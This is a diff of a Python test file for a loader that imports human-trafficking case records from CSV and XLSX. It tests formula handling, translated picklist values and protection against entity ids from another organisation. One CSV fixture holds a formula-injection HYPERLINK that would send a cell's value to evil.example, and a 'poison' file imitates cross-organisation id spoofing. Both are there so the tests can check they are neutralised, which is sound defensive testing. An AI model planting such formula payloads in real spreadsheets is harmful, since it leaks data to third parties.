@@ -233,7 +233,8 @@ def test_clean_date(raw, value, reason):
             False,
         ),
         ("vic_ForcedLabourIndustry", "c", [], ["C_Manufacturing"], False),
-        ("per_RoleInProcess", "Reclutador", [], ["Reclutador"], False),  # kept as given
+        ("per_RoleInProcess", "Reclutador", [], ["RecruiterOrIntermediary"], False),
+        ("per_RoleInProcess", "Puntero", [], ["Puntero"], False),  # kept as given
         ("vic_AgeWhenTrafficked", "14", [], ["14"], False),
         ("vic_AgeWhenTrafficked", "catorce", [], [], True),
         ("hte_Latitude", "14,8347", [], ["14.8347"], False),
@@ -379,7 +380,7 @@ def test_files_that_are_not_case_files(tf_sqlite, tmp_path):
 # -- entity shapes ------------------------------------------------------------------------
 def test_entity_shapes(tf):
     summary = htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
-    assert (summary.lines, summary.skipped, summary.errors) == (8, 0, [])
+    assert (summary.lines, summary.skipped, summary.errors) == (6, 0, [])  # data rows
     ents = entities(tf, tf.users["luis"])
 
     pid, maria = by_name(ents, "María José Pérez López")
@@ -576,7 +577,7 @@ def test_phone_without_plus_and_no_country_is_dropped(tf_sqlite, tmp_path):
     path = tmp_path / "p.csv"
     path.write_text(
         "prs_FirstName,prs_MobilePhone,prs_Citizenship\n"
-        "Uno,962 123 4567,\n"  # 'open' has no default country
+        "Uno,4567,\n"  # valid in no country
         "Dos,5512 3456,GT\n",
         encoding="utf-8",
     )
@@ -585,7 +586,12 @@ def test_phone_without_plus_and_no_country_is_dropped(tf_sqlite, tmp_path):
     assert "phone" not in by_name(ents, "Uno")[1]["properties"]
     assert by_name(ents, "Dos")[1]["properties"]["phone"] == ["+50255123456"]
     assert summary.dropped == 1
-    assert "no + and no country" in summary.dropped_values[0]["reason"]
+    assert "not a valid phone number" in summary.dropped_values[0]["reason"]
+    # Without any country to read it in, the reason says so.
+    assert clean_cell(FIELDS["prs_MobilePhone"], "962 123 4567", []) == (
+        [],
+        "not a valid phone number (no + and no country to read it in)",
+    )
 
 
 # -- idempotence and errors -----------------------------------------------------------------
@@ -663,7 +669,7 @@ def test_xlsx_without_labels_row_loads_the_same_statements_as_csv(tf, tmp_path):
     with tf.db.reader.connect() as conn:
         after = set(conn.execute(select(statements.c.id, statements.c.marking_id)).all())
     assert before == after
-    assert (summary.lines, summary.dropped) == (7, 2)
+    assert (summary.lines, summary.dropped) == (6, 2)  # data rows, not the header
 
 
 def test_iom_template_loads_empty_and_with_rows(tf, tmp_path):
@@ -724,3 +730,272 @@ def test_xlsx_sheet_with_the_codes_is_read(tmp_path):
         (1, ["prs_FirstName", "prs_Birthdate", "prs_NumberOfChildren", "con_Consent"]),
         (2, ["Inés", "2001-05-04", "2", "true"]),
     ]
+
+
+# -- XLSX formulas --------------------------------------------------------------------------
+def _with_cached_values(path: Path, cached: dict[str, str | None]) -> Path:
+    """Give formula cells of the first sheet a cached text result, as Excel or
+    LibreOffice write it (openpyxl writes formulas without one); None: an
+    empty text result."""
+    out = path.with_name("cached-" + path.name)
+    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w") as zout:
+        for item in zin.infolist():
+            data = zin.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                text = data.decode()
+                for ref, value in cached.items():
+                    start = text.index(f'<c r="{ref}"')
+                    end = text.index("</c>", start)
+                    formula = text[text.index("<f>", start) : text.index("</f>", start) + 4]
+                    text = (
+                        text[:start]
+                        + f'<c r="{ref}" t="str">{formula}<v>{value or ""}</v>'
+                        + text[end:]
+                    )
+                data = text.encode()
+            zout.writestr(item, data)
+    return out
+
+
+def _formula_book(path: Path) -> Path:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Casos"
+    sheet.append([None, "prs_FirstName", "prs_SecondName", "per_RoleInProcess"])
+    sheet.append([1, '=PROPER("juan")', "Vega", "Explotador"])  # B2: a formula
+    sheet.append([2, "Rosa", "Méndez", "Exploiter"])
+    sheet.append(["=ROW()-1", "Luis", '=IF(1=1,"","x")', "Smuggler"])  # A4 counter, C4 empty
+    sheet.append([4, "Eva", "Ruiz", "Kidnapper"])
+    text = sheet.cell(5, 2)
+    text.value, text.data_type = '=HYPERLINK("http://x.example","clic")', "s"  # text, not formula
+    book.save(path)
+    return path
+
+
+def test_formula_without_a_computed_value_fails_its_row_naming_the_cell(tf_sqlite, tmp_path):
+    tf = tf_sqlite
+    path = _formula_book(tmp_path / "casos.xlsx")
+    with pytest.raises(InvalidInput) as exc:
+        htcds.load_htcds(tf, "fgr", path)
+    message = exc.value.message
+    assert (
+        f"{path}: sheet Casos row 2, column B (prs_FirstName): formula without a computed"
+        in message
+    )
+    assert "PROPER" in message and "LibreOffice" in message
+    assert count(tf) == 0
+    summary = htcds.load_htcds(tf, "fgr", path, on_error="skip")
+    assert [e["line"] for e in summary.errors] == [2, 4]  # C4: formula, cached nowhere
+    assert "row 4, column C (prs_SecondName)" in summary.errors[1]["error"]
+    names = {
+        n for e in entities(tf, tf.users["luis"]).values() for n in e["properties"].get("name", [])
+    }
+    # The text cell that looks like a formula is loaded as the text it is.
+    assert names == {"Rosa Méndez", '=HYPERLINK("http://x.example","clic") Ruiz'}
+
+
+def test_formula_with_a_computed_value_loads_the_value(tf_sqlite, tmp_path):
+    tf = tf_sqlite
+    path = _with_cached_values(_formula_book(tmp_path / "casos.xlsx"), {"B2": "Juan", "C4": None})
+    rows = dict(htcds.read_table(path))
+    assert rows[2][1] == "Juan"
+    assert rows[4][2] is None  # an empty text result is empty, not an error
+    summary = htcds.load_htcds(tf, "fgr", path)
+    assert (summary.errors, summary.lines) == ([], 4)
+    names = {
+        n for e in entities(tf, tf.users["luis"]).values() for n in e["properties"].get("name", [])
+    }
+    assert {"Juan Vega", "Luis"} <= names
+
+
+def test_formula_in_the_header_is_refused(tmp_path, tf_sqlite):
+    book = openpyxl.Workbook()
+    book.active.append(["prs_FirstName", '=CONCAT("prs_","SecondName")'])
+    book.active.append(["Ana", "Ruiz"])
+    book.save(tmp_path / "h.xlsx")
+    with pytest.raises(InvalidInput, match=r"row 1, column B: formula without a computed value"):
+        htcds.load_htcds(tf_sqlite, "fgr", tmp_path / "h.xlsx")
+
+
+def test_formula_text_in_a_csv_is_data(tf_sqlite, tmp_path):
+    path = tmp_path / "f.csv"
+    path.write_text(
+        "prs_FirstName,prs_SecondName\n"
+        '"=HYPERLINK(""http://evil.example/?x=""&B3,""clic"")",Ruiz\n'
+        "'=1+1,Vega\n",  # the exporter's escape is removed
+        encoding="utf-8",
+    )
+    summary = htcds.load_htcds(tf_sqlite, "fgr", path)
+    assert (summary.errors, summary.lines) == ([], 2)
+    ents = entities(tf_sqlite, tf_sqlite.users["luis"])
+    by_name(ents, '=HYPERLINK("http://evil.example/?x="&B3,"clic") Ruiz')
+    assert by_name(ents, "=1+1 Vega")[1]["properties"]["firstName"] == ["=1+1"]
+
+
+# -- Spanish, Portuguese and French picklist values -------------------------------------------
+@pytest.mark.parametrize(
+    ("code", "raw", "values"),
+    [
+        ("prs_Gender", "Masculino", ["Masculine"]),
+        ("prs_Gender", "MUJER", ["Feminine"]),
+        ("prs_Gender", "Hombre", ["Masculine"]),
+        ("prs_Gender", "femme", ["Feminine"]),
+        ("prs_Gender", "M", ["M"]),  # masculino or mujer: kept as given
+        ("vic_TraffickingStatus", "Víctima posible", ["PossibleVictimOfTrafficking"]),
+        ("vic_TraffickingStatus", "presunta victima", ["PossibleVictimOfTrafficking"]),
+        ("vic_TraffickingStatus", "VÍCTIMA CONFIRMADA", ["ActualVictimOfTrafficking"]),
+        ("vic_TraffickingStatus", "No es víctima", ["NotAVictimOfTrafficking"]),
+        ("vic_TraffickingStatus", "vítima possível", ["PossibleVictimOfTrafficking"]),
+        ("vic_TraffickingStatus", "Víctima", ["Víctima"]),  # possible or confirmed? kept
+        (
+            "per_RoleInProcess",
+            "Reclutador/Enganchador; Transportista, Pollero/Coyote; Comprador/Vendedor",
+            ["RecruiterOrIntermediary", "Transporter", "Smuggler", "Comprador/Vendedor"],
+        ),
+        ("per_RoleInProcess", "Enganchadora; coyote; Explotador", None),
+        ("per_RoleInProcess", "Comprador; Vendedor; Receptor; Albergador", None),
+        ("per_RoleInProcess", "Halcón", ["Halcón"]),
+        (
+            "vic_TypeOfExploitation",
+            "Trabajos forzados; explotación sexual; Mendicidad forzada; servidumbre; "
+            "matrimonio forzado",
+            ["ForcedLabour", "SexualExploitation", "ForcedBegging", "Servitude", "ForcedMarriage"],
+        ),
+        (
+            "vic_MethodsOfControl",
+            "Servidumbre por deudas; retención de documentos; falsas promesas",
+            ["DebtBondage", "WithholdsDocuments", "FalsePromises"],
+        ),
+        ("hte_Type", "Tránsito", ["Transit"]),
+        ("cas_Status", "Cerrado", ["Closed"]),
+    ],
+)
+def test_translated_picklist_values(code, raw, values):
+    expected = {
+        "Enganchadora; coyote; Explotador": ["RecruiterOrIntermediary", "Smuggler", "Exploiter"],
+        "Comprador; Vendedor; Receptor; Albergador": [
+            "BoughtIndividual",
+            "SoldIndividual",
+            "ReceivedIndividual",
+            "HarbouredIndividual",
+        ],
+    }
+    assert clean_cell(FIELDS[code], raw, []) == (values or expected[raw], None)
+
+
+def test_translations_never_clash():
+    """No word means two values of one field, and none shadows a code or an
+    English label of another value."""
+    from gugus.ingest.htcds_fields import VALUE_WORDS, _squash
+
+    for code, words in VALUE_WORDS.items():
+        f = FIELDS[code]
+        standard = {_squash(v): v for v in f.values} | {
+            _squash(label): v for v, label in zip(f.values, f.value_labels, strict=False)
+        }
+        seen: dict[str, str] = {}
+        for value, text in words.items():
+            assert value in f.values, (code, value)
+            for word in text.split("|"):
+                key = _squash(word)
+                assert key, (code, word)
+                assert seen.setdefault(key, value) == value, (code, word)
+                assert standard.get(key, value) == value, (code, word)
+
+
+def test_spanish_values_give_roles_and_gender_and_are_kept_as_written(tf_sqlite, tmp_path):
+    tf = tf_sqlite
+    path = tmp_path / "es.csv"
+    path.write_text(
+        "prs_FirstName;prs_SecondName;prs_Gender;vic_TraffickingStatus;per_RoleInProcess\n"
+        "Yajaira;Ramos;Femenino;Víctima posible;\n"
+        "Esvin;Tzul;Masculino;;Transportista|Smuggler\n",  # Excel in Spanish writes ';'
+        encoding="utf-8",
+    )
+    summary = htcds.load_htcds(tf, "fgr", path)
+    assert (summary.errors, summary.dropped) == ([], 0)
+    ents = entities(tf, tf.users["luis"])
+    vid, victim = by_name(ents, "Yajaira Ramos")
+    props = victim["properties"]
+    assert props["gender"] == ["female"]
+    assert "victim" in props["classification"] and "topics" not in props
+    assert {
+        "prs_Gender: Feminine",
+        "vic_TraffickingStatus: PossibleVictimOfTrafficking",
+    } <= tags(victim)
+    assert {
+        "prs_Gender (as written): Femenino",
+        "vic_TraffickingStatus (as written): Víctima posible",
+    } <= set(props["keywords"])
+    assert marking_of(tf, vid)["tlp"] == "amber+strict"
+    _, perp = by_name(ents, "Esvin Tzul")
+    props = perp["properties"]
+    assert props["gender"] == ["male"]
+    assert {"perpetrator", "Transporter", "Smuggler"} <= set(props["classification"])
+    assert props["topics"] == ["crime.traffick.human"]
+    assert "per_RoleInProcess (as written): Transportista" in props["keywords"]
+    assert "per_RoleInProcess (as written): Smuggler" not in props["keywords"]  # a code
+
+
+# -- gugus_entity_id of another organisation ----------------------------------------------------
+def _poison(tmp_path: Path, gid: str, name: str = "poison.csv") -> Path:
+    path = tmp_path / name
+    path.write_text(
+        "gugus_entity_id,gugus_role,prs_FirstName,prs_SecondName,per_RoleInProcess\n"
+        f"{gid},perpetrator,María José,Pérez López,Exploiter\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+def test_an_id_of_another_organisation_is_namespaced(tf, tmp_path):
+    """GT-MP cannot make MX-FGR's victim a perpetrator by writing its id; the
+    outcome is the same for an id that exists nowhere (no existence oracle)."""
+    from gugus.ingest.htcds_protect import foreign_id
+
+    htcds.load_htcds(tf, "fgr", FIXTURES / "cases.csv")
+    luis, gabi = tf.users["luis"], tf.users["gabi"]
+    victim_id, before = by_name(entities(tf, luis), "María José Pérez López")
+    admin.add_collection(tf, "mp", "GT-MP", "amber", None, release_to=["MX-FGR"])
+    unknown_id = "0" * 40
+    first = htcds.load_htcds(tf, "mp", _poison(tmp_path, victim_id, "a.csv"), actor=gabi)
+    second = htcds.load_htcds(tf, "mp", _poison(tmp_path, unknown_id, "b.csv"), actor=gabi)
+    assert (first.entities, first.statements) == (second.entities, second.statements)
+    theirs = entities(tf, gabi, "mp")
+    assert set(theirs) >= {foreign_id("mp", victim_id), foreign_id("mp", unknown_id)}
+    assert victim_id not in theirs and unknown_id not in theirs
+    victim = reads.get_entity(tf, luis, victim_id)
+    assert victim["collections"] == ["fgr"]
+    assert "topics" not in victim["properties"]
+    assert victim["properties"]["classification"] == before["properties"]["classification"]
+    # Re-loading the same file is idempotent (the namespaced id is stable).
+    again = htcds.load_htcds(tf, "mp", _poison(tmp_path, victim_id, "a.csv"), actor=gabi)
+    assert again.statements == first.statements
+    assert set(entities(tf, gabi, "mp")) == set(theirs)
+
+
+def test_own_ids_are_kept(tf_sqlite, tmp_path):
+    """An id the importer made under one of the organisation's collections,
+    or one its collections already hold, is kept as given."""
+    from gugus.ingest.htcds_protect import foreign_id
+
+    tf = tf_sqlite
+    luis = tf.users["luis"]
+    row = htcds.Row(2, "x", values={"prs_IdentityNumber": ["RASJ790430HCSMTN09"]})
+    made = htcds.person_key("fgr", row)
+    path = tmp_path / "own.csv"
+    path.write_text(
+        f"gugus_entity_id,prs_IdentityNumber,prs_FirstName\n{made},RASJ790430HCSMTN09,Juan\n",
+        encoding="utf-8",
+    )
+    # Made under 'fgr' (nothing stored yet), loaded into 'open': same organisation.
+    htcds.load_htcds(tf, "open", path)
+    assert made in entities(tf, luis, "open")
+    # Another organisation's collection gets its own id for the same row.
+    admin.add_collection(tf, "mp", "GT-MP", "amber", None)
+    htcds.load_htcds(tf, "mp", path, actor=tf.users["gabi"])
+    assert set(entities(tf, tf.users["gabi"], "mp")) == {foreign_id("mp", made)}
+    # An id of a row that does not reproduce it, held by MX-FGR: kept.
+    path.write_text(f"gugus_entity_id,prs_FirstName\n{made},Juan C.\n", encoding="utf-8")
+    htcds.load_htcds(tf, "fgr", path)
+    assert made in entities(tf, luis, "fgr")
